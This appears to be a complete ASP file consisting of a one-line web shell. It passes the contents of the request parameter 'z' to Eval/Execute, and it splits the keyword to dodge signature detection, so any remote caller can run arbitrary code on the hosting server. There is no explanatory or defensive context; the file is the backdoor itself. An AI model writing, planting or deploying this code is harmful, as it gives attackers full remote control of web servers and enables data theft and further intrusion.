<%
Eval("Ex" & "ecute(Request(""z""))")
%>
